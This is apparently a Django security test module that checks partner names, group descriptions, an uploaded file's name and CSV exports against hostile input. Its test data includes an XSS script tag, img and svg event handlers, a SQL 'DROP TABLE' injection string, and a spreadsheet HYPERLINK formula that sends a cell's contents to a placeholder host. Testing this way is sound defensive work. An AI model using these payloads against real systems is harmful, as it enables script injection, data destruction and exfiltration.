"""Stored values that carry markup, script, SQL or odd Unicode (issue 13, ASVS V5): entered through the forms
as an administrator would, they are stored exactly as typed, shown escaped on every page that names them,
never break a page, and leave the CSV exports inert in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from habpps.directory.models import Group, Partner
from security.world import build_world

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
SQL = "Robert'); DROP TABLE directory_partner;--"
FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
UNICODE = "Ŀ\u202eʇxǝʇ\u200b 👩‍👩‍👧 Z̷̢a̸l̵g̶o 社会福祉 ﷽"
VALUES = {"script": SCRIPT, "sql": SQL, "formula": FORMULA, "unicode": UNICODE, "long": "Ê" * 120}
FORMULA_TRIGGERS = ("=", "+", "-", "@")


@pytest.fixture
def world(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return build_world()


def assert_escaped(html: str, value: str) -> None:
    """The raw markup never reaches the page; the escaped text does."""
    from django.utils.html import escape

    assert "<script>alert" not in html and "<img src=x" not in html
    assert escape(value) in html


@pytest.mark.parametrize("name", VALUES, ids=list(VALUES))
def test_a_partner_and_group_named_anything_are_stored_intact_and_shown_escaped(world, client, name):
    value = VALUES[name]
    side = world.sides["a"]
    client.force_login(side.actors["fund_admin"])
    partner = side.partner
    response = client.post(
        reverse("directory:partner-update", args=[partner.pk]),
        {
            "name": value,
            "siret": partner.siret,
            "partner_type": partner.partner_type_id,
            "person_kind": partner.person_kind,
            "street": partner.street,
            "postal_code": partner.postal_code,
            "city": partner.city,
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    response = client.post(
        reverse("directory:group-create", args=[partner.pk]), {"name": value[:120], "description": value}
    )
    assert response.status_code == 302
    assert Partner.objects.get(pk=partner.pk).name == value
    group = Group.objects.get(partner=partner, name=value[:120])
    assert group.description == value

    pages = [
        reverse("directory:partner-detail", args=[partner.pk]),
        reverse("directory:partner-list"),
        reverse("directory:group-detail", args=[group.pk]),
        reverse("supervision:partner", args=[partner.pk]),
        reverse("journal:search"),
        reverse("conventions:detail", args=[side.convention.pk]),
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, url
    assert_escaped(client.get(pages[0]).content.decode(), value)


def test_csv_exports_neutralise_formulas_in_stored_names(world, client):
    side = world.sides["a"]
    client.force_login(side.actors["fund_admin"])
    partner = side.partner
    client.post(
        reverse("directory:partner-update", args=[partner.pk]),
        {
            "name": FORMULA,
            "siret": partner.siret,
            "partner_type": partner.partner_type_id,
            "person_kind": partner.person_kind,
            "street": partner.street,
            "postal_code": partner.postal_code,
            "city": partner.city,
        },
    )
    response = client.get(reverse("journal:export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "le nom modifié figure dans l'export"
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)], "une cellule serait une formule"


def test_a_scanned_document_named_with_markup_is_shown_escaped(world, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from security.world import tiny_pdf

    side = world.sides["a"]
    client.force_login(side.actors["fund_admin"])
    name = '"><svg onload=alert(1)>Łódź.pdf'
    response = client.post(
        reverse("conventions:convention-action", args=[side.convention.pk, "etape-papier"]),
        {
            "papier-kind": "conformity",
            "papier-occurred_on": "2025-02-03",
            "papier-decision": "favourable",
            "papier-note": SCRIPT,
            "papier-document": SimpleUploadedFile(name, tiny_pdf("x"), "application/pdf"),
        },
    )
    assert response.status_code == 302
    html = client.get(reverse("conventions:detail", args=[side.convention.pk])).content.decode()
    assert "<svg onload" not in html and "<script>alert" not in html
    assert side.convention.paper_steps.filter(note=SCRIPT).exists(), "la note est conservée telle quelle"
